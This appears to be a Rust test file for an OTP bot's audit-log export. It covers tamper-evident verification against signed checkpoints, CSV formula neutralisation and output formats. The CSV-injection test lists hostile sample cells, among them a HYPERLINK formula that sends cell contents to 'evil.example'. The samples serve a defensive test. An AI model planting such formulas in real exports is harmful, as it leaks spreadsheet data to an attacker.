//! What leaves the store: an outsider checks an exported log against signed checkpoints with
//! the public key alone (no store, no audit key), and every way of altering the export is
//! caught; the CSV export never hands a spreadsheet a formula; `--format json` is one array;
//! every format ends quietly when its reader closes the pipe.

use crate::common;

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::Arc;

use common::cli::{self, fails, ok, store_key_dir, Otpbot};

use otpbot::audit::chain::hash_link;
use otpbot::audit::jsonl::from_json_object;
use otpbot::audit::record::canonical;
use otpbot::domain::{Action, AuditEvent, EventId, Outcome, Principal, RequestId, Timestamp};
use otpbot::keys::{decode_hex_key, AuditKey};
use otpbot::store::local::{LocalOptions, LocalStore, MasterKey};
use otpbot::store::AuditStore;
use serde_json::Value;

fn key_file(dir: &Path, name: &str) -> otpbot::keys::KeyBytes {
    let text = std::fs::read_to_string(store_key_dir(dir).join(name)).expect("key file");
    decode_hex_key(&text, name).expect("hex key")
}

fn event(n: usize, detail: &str) -> AuditEvent {
    let at = Timestamp::from_unix(1_900_000_000 + n as i64);
    AuditEvent {
        id: EventId::new(at),
        at,
        request_id: RequestId::new(),
        actor: Principal::parse(&format!("slack:T0DEMO:U{n}")).expect("principal"),
        action: Action::Grant,
        tool: None,
        subject: None,
        outcome: Outcome::Ok,
        detail: Some(detail.to_owned()),
        channel: Some("C01".into()),
        code_mac: None,
    }
}

/// A store made by the command line, with `records` more records appended as the server
/// would (its keys), each with `detail`.
async fn log(records: usize, detail: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    Otpbot::on_store(dir.path())
        .cwd(dir.path())
        .args(["role", "add", "slack:T0DEMO:UAUD", "auditor"])
        .ok();
    let store = LocalStore::open_chained(
        dir.path(),
        MasterKey::new(key_file(dir.path(), "master.key")),
        LocalOptions::default(),
        Some(Arc::new(AuditKey::new(key_file(dir.path(), "audit.key")))),
    )
    .expect("open");
    for n in 0..records {
        store.append(&event(n, detail)).await.expect("append");
    }
    dir
}

/// What an auditor is handed: an export, two checkpoints taken at different times, and the
/// public key, in a directory of their own (no store, no key of otpbot's).
struct Handed {
    auditor: tempfile::TempDir,
    export: PathBuf,
    checkpoints: [PathBuf; 2],
    public_key: PathBuf,
}

async fn handed() -> Handed {
    let log = log(5, "release").await;
    let auditor = tempfile::tempdir().expect("tempdir");
    let put = |name: &str, text: String| {
        let path = auditor.path().join(name);
        std::fs::write(&path, text).expect("write");
        path
    };
    let first = put(
        "first.json",
        Otpbot::on_store(log.path())
            .cwd(log.path())
            .args(["audit", "checkpoint"])
            .ok(),
    );
    Otpbot::on_store(log.path())
        .cwd(log.path())
        .args(["audit", "--limit", "1"])
        .ok();
    let second = put(
        "second.json",
        Otpbot::on_store(log.path())
            .cwd(log.path())
            .args(["audit", "checkpoint"])
            .ok(),
    );
    let export = put(
        "log.jsonl",
        Otpbot::on_store(log.path())
            .cwd(log.path())
            .args(["audit", "--format", "jsonl"])
            .ok(),
    );
    let public_key = put(
        "otpbot.pem",
        Otpbot::on_store(log.path())
            .cwd(log.path())
            .args(["audit", "public-key"])
            .ok(),
    );
    Handed {
        auditor,
        export,
        checkpoints: [first, second],
        public_key,
    }
}

/// `otpbot audit verify --export` as the auditor runs it, in their directory, with no data
/// directory set.
fn verify_export(h: &Handed, export: &Path, key: &Path) -> Output {
    Otpbot::new()
        .cwd(h.auditor.path())
        .args(["audit", "verify", "--export"])
        .arg(export)
        .arg("--public-key")
        .arg(key)
        .arg("--checkpoint")
        .args(&h.checkpoints)
        .output()
}

#[tokio::test]
async fn an_outsider_checks_an_export_with_the_public_key_alone() {
    let h = handed().await;
    let out = ok(verify_export(&h, &h.export, &h.public_key));
    assert!(
        out.starts_with("ok: 9 records")
            && out.contains("extends all 2 checkpoints given: the newest, of ")
            && out.contains("vouches for the first 8 records, and 1 newer records"),
        "{out}"
    );
    let left: Vec<_> = std::fs::read_dir(h.auditor.path())
        .expect("dir")
        .map(|e| e.expect("entry").file_name())
        .collect();
    assert_eq!(left.len(), 4, "the check wrote nothing, no store: {left:?}");
}

/// The export's lines in log order (by `seq`), as JSON objects.
fn lines(h: &Handed) -> Vec<Value> {
    let mut lines: Vec<Value> = std::fs::read_to_string(&h.export)
        .expect("export")
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    lines.sort_by_key(|l| l["seq"].as_i64());
    lines
}

fn write_lines(h: &Handed, name: &str, lines: &[Value]) -> PathBuf {
    let path = h.auditor.path().join(name);
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    std::fs::write(&path, text).expect("write");
    path
}

/// Recomputes every `hash` of `lines` from the records, as a forger of an export would.
fn rehash(lines: &mut [Value]) {
    let mut previous: Option<String> = None;
    for line in lines.iter_mut() {
        let event = from_json_object(line).expect("record");
        let hash = hash_link(previous.as_deref(), &canonical(&event));
        line["hash"] = Value::String(hash.clone());
        previous = Some(hash);
    }
}

#[tokio::test]
async fn every_alteration_of_an_export_fails_against_its_checkpoints() {
    let h = handed().await;
    let mut cases: Vec<(&str, Vec<Value>, &str)> = Vec::new();
    let mut altered = lines(&h);
    altered[3]["actor"] = "slack:T0DEMO:UMALLORY".into();
    cases.push(("a field changed", altered, "record altered: record #4"));
    let mut removed = lines(&h);
    removed.remove(4);
    cases.push((
        "a record removed",
        removed,
        "record missing: record #5 has been removed from the log (an export",
    ));
    let mut forged = lines(&h);
    forged[3]["actor"] = "slack:T0DEMO:UMALLORY".into();
    rehash(&mut forged);
    cases.push((
        "a field changed and every hash recomputed",
        forged,
        "history rewritten: the log's first 7 records are not the ones",
    ));
    let mut cut = lines(&h);
    cut.truncate(6);
    cases.push((
        "the newest records left out",
        cut,
        "log cut off: the checkpoint of ",
    ));
    let mut unlinked = lines(&h);
    unlinked[2]["hash"] = Value::Null;
    cases.push(("a hash removed", unlinked, "record not linked: record #3"));
    let mut started = lines(&h);
    started.remove(0);
    for line in &mut started {
        line["seq"] = (line["seq"].as_i64().expect("seq") - 1).into();
    }
    cases.push(("the chain start left out", started, "chain start missing"));
    for (what, lines, expected) in cases {
        let export = write_lines(&h, "altered.jsonl", &lines);
        let said = fails(verify_export(&h, &export, &h.public_key));
        assert!(said.contains(expected), "{what}: {said}");
    }

    let other = tempfile::tempdir().expect("tempdir");
    Otpbot::on_store(other.path())
        .cwd(other.path())
        .args(["role", "add", "slack:T0DEMO:UOTHER", "auditor"])
        .ok();
    let other_key = h.auditor.path().join("other.pem");
    std::fs::write(
        &other_key,
        Otpbot::on_store(other.path())
            .cwd(other.path())
            .args(["audit", "public-key"])
            .ok(),
    )
    .expect("pem");
    let said = fails(verify_export(&h, &h.export, &other_key));
    assert!(said.contains("checkpoint not genuine"), "{said}");

    let mut garbage = std::fs::read_to_string(&h.export).expect("export");
    garbage.push_str("{\"not\": \"a record\"}\n");
    let export = h.auditor.path().join("garbage.jsonl");
    std::fs::write(&export, garbage).expect("write");
    let said = fails(verify_export(&h, &export, &h.public_key));
    assert!(
        said.contains("is not an audit record otpbot writes"),
        "{said}"
    );
}

/// A reason typed in chat reaches the CSV export; a cell a spreadsheet would run as a formula
/// is shown as text instead (OWASP, "CSV Injection").
#[tokio::test]
async fn a_formula_typed_in_chat_is_text_in_the_csv_export() {
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    Otpbot::on_store(dir.path())
        .cwd(dir.path())
        .args(["role", "add", "slack:T0DEMO:UAUD", "auditor"])
        .ok();
    {
        let store = LocalStore::open_chained(
            dir.path(),
            MasterKey::new(key_file(dir.path(), "master.key")),
            LocalOptions::default(),
            Some(Arc::new(AuditKey::new(key_file(dir.path(), "audit.key")))),
        )
        .expect("open");
        for (n, formula) in formulas.iter().enumerate() {
            store.append(&event(n, formula)).await.expect("append");
        }
    }
    let csv = Otpbot::on_store(dir.path())
        .cwd(dir.path())
        .args(["audit", "--format", "csv"])
        .ok();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let details: Vec<String> = reader
        .records()
        .map(|r| r.expect("row")[8].to_owned())
        .collect();
    for formula in formulas {
        assert!(
            details.contains(&format!("'{formula}")),
            "{formula:?} not neutralised: {details:?}"
        );
        assert!(
            !details.iter().any(|d| d == formula),
            "{formula:?} as typed"
        );
    }
}

#[tokio::test]
async fn json_is_one_array_and_jsonl_one_object_per_line() {
    let dir = log(3, "release").await;
    let json: Vec<Value> = serde_json::from_str(
        &Otpbot::on_store(dir.path())
            .cwd(dir.path())
            .args(["audit", "--format", "json"])
            .ok(),
    )
    .expect("array");
    assert_eq!(
        json.len(),
        6,
        "chain start, role, 3 records, the export: {json:?}"
    );
    assert!(json.iter().all(|o| o["actor"].is_string()));
    let none = Otpbot::on_store(dir.path())
        .cwd(dir.path())
        .args([
            "audit",
            "--format",
            "json",
            "--user",
            "slack:T0DEMO:UNOBODY",
        ])
        .ok();
    assert_eq!(
        serde_json::from_str::<Value>(&none).expect("array"),
        Value::Array(vec![])
    );
    let jsonl = Otpbot::on_store(dir.path())
        .cwd(dir.path())
        .args(["audit", "--format", "jsonl"])
        .ok();
    assert_eq!(jsonl.lines().count(), 8, "{jsonl}");
    for line in jsonl.lines() {
        let object: Value = serde_json::from_str(line).expect("one object per line");
        assert!(object["seq"].is_i64(), "{object}");
    }
}

/// `otpbot audit --format F | head -1`: the reader takes one line and closes the pipe while
/// otpbot still has far more than a pipe holds to write; otpbot exits 0 and says nothing.
#[tokio::test]
async fn every_format_survives_a_closed_pipe() {
    let dir = log(3_000, &"x".repeat(60)).await;
    for format in ["table", "csv", "json", "jsonl"] {
        let mut child = Otpbot::on_store(dir.path())
            .cwd(dir.path())
            .args(["audit", "--format", format])
            .command()
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn");
        let mut first = String::new();
        BufReader::new(child.stdout.take().expect("stdout"))
            .read_line(&mut first)
            .expect("first line");
        let output = child.wait_with_output().expect("wait");
        assert!(!first.is_empty(), "{format}: wrote nothing");
        assert!(output.status.success(), "{format}: {:?}", output.status);
        assert!(
            output.stderr.is_empty(),
            "{format}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    // The same through a shell pipeline, as the issue shows it.
    let mut sh = Command::new("sh")
        .args([
            "-c",
            "\"$0\" audit --format csv | head -1 > /dev/null; echo done",
            cli::BIN,
        ])
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("OTPBOT_DATA_DIR", dir.path())
        .env("OTPBOT_KEY_DIR", store_key_dir(dir.path()))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("sh");
    drop(sh.stdin.take().map(|mut s| s.flush()));
    let out = sh.wait_with_output().expect("sh");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "done\n");
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
